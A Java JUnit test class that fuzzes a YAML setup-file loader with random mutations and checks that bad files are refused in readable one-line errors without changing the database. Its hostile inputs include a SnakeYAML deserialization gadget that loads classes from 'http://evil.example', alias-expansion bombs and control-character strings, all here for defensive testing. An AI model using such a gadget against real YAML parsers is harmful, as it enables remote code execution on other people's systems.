package org.arising.setup;

import org.arising.testkit.HostileTexts;
import org.arising.testkit.Story;
import org.arising.testkit.Workshop;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.yaml.snakeyaml.LoaderOptions;
import org.yaml.snakeyaml.Yaml;
import org.yaml.snakeyaml.constructor.SafeConstructor;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Setup files that are not as anybody writes them: pieces left out, twice, elsewhere, of another type, hostile, endless or
 * referring to themselves. Each is applied and is what it says, or refused in lines that a clerk can read.
 */
@Story
class MutatedSetupTest {
    private static final String RICH = SetupExample.TEXT
            .replace("acceptance: false", """
                    acceptance: true
                        public: police-and-crime
                        meetings-to: clerk@assembly.example
                        letters: { request: { opening: "To {organisation}", closing: "By {deadline}" } }""")
            .replace("channel: C0MOPAC }", """
                    channel: C0MOPAC, groups: [S0MOPAC], email: office@mopac.example, prefer: both,
                        copy: [copy@mopac.example], calendar: true }""")
            .replace("holder: U0DMPC }", "holder: U0DMPC, deputy: U0OTHER, deputy-email: deputy@mopac.example, channel: C0MOPAC }");

    private static final List<String> TABLES = List.of("committee", "organisation", "post", "holding", "meeting", "item");
    private static final int MOST_LINES = 101;
    private static final int LONGEST_LINE = 1_000;
    private static final int LARGE = 200_000;

    @TempDir
    private Path folder;

    @Test
    void whatever_a_setup_file_holds_it_is_applied_or_refused_whole_in_words() throws Exception {
        mutated(150, 1, "mutated-setup.md");
    }

    /** {@code -Darising.setups=} takes another count, {@code -Darising.seed=} another first seed. */
    @Test
    @Tag("proof")
    void nor_does_one_of_a_hundred_thousand_break_anything() throws Exception {
        mutated(Integer.getInteger("arising.setups", 100_000), Integer.getInteger("arising.seed", 2), "mutated-setup-proof.md");
    }

    @Test
    void what_yaml_can_do_beyond_a_setup_is_refused_in_words() throws SQLException {
        refuses(Stream.of(
                "a: &a [x, x]\nb: &b [*a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b]\ncommittees: [*c, *c, *c, *c]",
                "committees: &c [*c]",
                "committees: &c\n  - code: PCC\n    officers: *c",
                "committees: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]",
                "committees: [{ <<: &m { code: PCC }, name: x }]",
                "--- {}\n--- {}",
                "committees: []\n...\n%YAML 9.9\n---\n",
                "committees: \"\\0\\x1b[2J\"",
                "? [a, b]\n: c",
                "\uFEFFcommittees: {}",
                "\t- x",
                "committees: [{ code: \"\\ud800\" }]",
                "organisations: [{ name: \"\\u200b\" }]"));
    }

    @Test
    void what_is_endless_is_refused_in_few_words() throws SQLException {
        refuses(Stream.of(
                endless("", "[", ""),
                endless("", "{a: ", ""),
                endless("", "? ", ""),
                endless("", "a: &a b\n", ""),
                endless("", "*a ", ""),
                endless("committees:", "\n- 1", ""),
                endless("committees:", "\n- code: x", ""),
                endless("committees: [", "{a: b},", "]"),
                endless("committees: [{ officers: [", "x,", "]}]"),
                endless("organisations: [{ short: \"", "x", "\"}]"),
                endless("committees: [{ code: X, zone: \"", "y", "\"}]"),
                endless("committees: [{ code: X, meetings: [\"", "0", "\"]}]"),
                endless("{\"", "k", "\": 1}"),
                // One long word, told of by each of many that refer to it.
                endless("x: &a \"" + "y".repeat(SetupFile.LARGEST / 2) + "\"\ncommittees: [{ officers: [", "*a ,", "]}]")));
    }

    private static String endless(String head, String piece, String end) {
        return head + piece.repeat((LARGE - Math.min(head.length(), LARGE / 2) - end.length()) / piece.length()) + end;
    }

    private void refuses(Stream<String> texts) throws SQLException {
        try (var shop = new Workshop(folder)) {
            var before = held(shop);
            assertThat(texts).allSatisfy(text ->
                    assertThat(apply(shop, text, false)).isInstanceOfSatisfying(SetupDesk.Result.Refused.class, this::inWords));
            assertThat(held(shop)).isEqualTo(before);
        }
    }

    private void mutated(int tries, long seed, String table) throws SQLException, IOException {
        var random = new Random(seed);
        var applied = 0;
        try (var shop = new Workshop(folder)) {
            for (int i = 0; i < tries; i++) {
                var text = switch (random.nextInt(3)) {
                    case 0 -> ofTree(random);
                    case 1 -> ofText(random);
                    default -> ofWords(random);
                };
                var prune = random.nextInt(4) == 0;
                var before = held(shop);
                var as = "seed %d, file %d, prune %s:%n%s".formatted(seed, i, prune, text.length() > 4_000 ? text.substring(0, 4_000) : text);
                try {
                    switch (apply(shop, text, prune)) {
                        case SetupDesk.Result.Refused refused -> {
                            inWords(refused);
                            assertThat(held(shop)).isEqualTo(before);
                        }
                        case SetupDesk.Result.Applied(var changes) -> {
                            applied++;
                            assertThat(changes).allSatisfy(MutatedSetupTest::isOneLine);
                            assertThat(apply(shop, text, prune)).isEqualTo(new SetupDesk.Result.Applied(List.of()));
                            if (random.nextInt(4) == 0) {
                                shop.setUp(SetupExample.TEXT);
                            }
                        }
                    }
                } catch (RuntimeException | AssertionError fault) {
                    throw new AssertionError(as, fault);
                }
            }
            assertThat(shop.number("SELECT count(*) FROM pragma_integrity_check WHERE integrity_check <> 'ok'")).isZero();
        }
        Files.writeString(Path.of("target", table), """
                | mutated setup files | applied, and again without a change | refused whole, in words |
                | ---: | ---: | ---: |
                | %,d | %,d | %,d |
                """.formatted(tries, applied, tries - applied));
        assertThat(applied).isBetween(tries / 20, tries * 9 / 10);
    }

    private static SetupDesk.Result apply(Workshop shop, String text, boolean prune) {
        return shop.of(SetupDesk.class).apply(shop.workspace(), text, prune, Workshop.NOW);
    }

    private void inWords(SetupDesk.Result.Refused refused) {
        assertThat(refused.errors()).isNotEmpty().hasSizeLessThanOrEqualTo(MOST_LINES).allSatisfy(MutatedSetupTest::isOneLine);
    }

    private static void isOneLine(String line) {
        assertThat(line.length()).isBetween(1, LONGEST_LINE);
        assertThat(line.chars().noneMatch(Character::isISOControl)).as(line).isTrue();
        assertThat(line).doesNotContain("Exception", "org.yaml", "java.");
    }

    private static List<String> held(Workshop shop) throws SQLException {
        var rows = new ArrayList<String>();
        try (var connection = shop.connect();
                var statement = connection.createStatement()) {
            for (var table : TABLES) {
                try (var answer = statement.executeQuery("SELECT * FROM " + table)) {
                    var columns = answer.getMetaData().getColumnCount();
                    while (answer.next()) {
                        var row = new StringBuilder(table);
                        for (int i = 1; i <= columns; i++) {
                            row.append('|').append(answer.getString(i));
                        }
                        rows.add(row.toString());
                    }
                }
            }
        }
        return rows;
    }

    /** Lines, words and single characters changed, without regard to what they are. */
    private static String ofText(Random random) {
        var text = new StringBuilder(RICH);
        for (int times = 1 + random.nextInt(3); times > 0; times--) {
            var at = random.nextInt(text.length());
            var end = Math.min(text.length(), at + 1 + random.nextInt(60));
            switch (random.nextInt(6)) {
                case 0 -> text.setCharAt(at, (char) random.nextInt(random.nextBoolean() ? 128 : 65_536));
                case 1 -> text.delete(at, end);
                case 2 -> text.insert(random.nextInt(text.length()), text.substring(at, end));
                case 3 -> text.insert(at, HostileTexts.next(random));
                case 4 -> text.replace(at, end, List.of("&a ", "*a", "!!set ", "<<: ", "| ", "> ", "---\n", "? ", "- ", ": ").get(random.nextInt(10)));
                default -> text.setLength(Math.max(1, at));
            }
        }
        return text.toString();
    }

    /** A value here and there of another type, of another place, hostile, or twice. */
    private static String ofTree(Random random) {
        var tree = new Yaml(new SafeConstructor(new LoaderOptions())).load(RICH);
        for (int times = 1 + random.nextInt(2); times > 0; times--) {
            var places = new ArrayList<Object>();
            places(tree, places);
            mutate(places.get(random.nextInt(places.size())), places, random);
        }
        return new Yaml().dump(tree);
    }

    /** Where any word can stand. */
    private static String ofWords(Random random) {
        return new Yaml().dump(Map.of(
                "committees", List.of(Map.of(
                        "code", "X" + random.nextInt(3),
                        "name", hostile(random),
                        "letters", Map.of("request", Map.of("opening", hostile(random))))),
                "organisations", List.of(
                        Map.of("short", hostile(random), "name", hostile(random), "aliases", List.of(hostile(random), hostile(random))),
                        Map.of("short", "MPS", "name", hostile(random))),
                "posts", List.of(Map.of("title", hostile(random), "organisation", "MPS"))));
    }

    @SuppressWarnings("unchecked")
    private static void mutate(Object place, List<Object> places, Random random) {
        switch (place) {
            case Map<?, ?> map when !map.isEmpty() -> {
                var named = (Map<Object, Object>) map;
                var key = List.copyOf(named.keySet()).get(random.nextInt(named.size()));
                if (random.nextInt(6) == 0) {
                    named.remove(key);
                } else {
                    named.put(key, value(named.get(key), places, random));
                }
            }
            case List<?> list -> {
                var values = (List<Object>) list;
                var at = values.isEmpty() ? 0 : random.nextInt(values.size());
                if (!values.isEmpty() && random.nextInt(3) == 0) {
                    values.add(values.get(at));
                } else {
                    values.add(at, value(values.isEmpty() ? "" : values.get(at), places, random));
                }
            }
            default -> {}
        }
    }

    private static Object value(Object now, List<Object> places, Random random) {
        return switch (random.nextInt(8)) {
            case 0 -> random.nextLong();
            case 1 -> new ArrayList<>(List.of(hostile(random)));
            case 2 -> new LinkedHashMap<>(Map.of(hostile(random), now));
            case 3 -> places.get(random.nextInt(places.size()));
            case 4 -> now + hostile(random);
            default -> hostile(random);
        };
    }

    /** What can be written in YAML at all. */
    private static String hostile(Random random) {
        return HostileTexts.next(random).replaceAll("\\p{Cs}", "\uFFFD");
    }

    private static void places(Object node, List<Object> found) {
        if (found.stream().anyMatch(each -> each == node)) {
            return;
        }
        if (node instanceof Map<?, ?> map) {
            found.add(map);
            map.values().forEach(inner -> places(inner, found));
        } else if (node instanceof List<?> list) {
            found.add(list);
            list.forEach(inner -> places(inner, found));
        }
    }
}
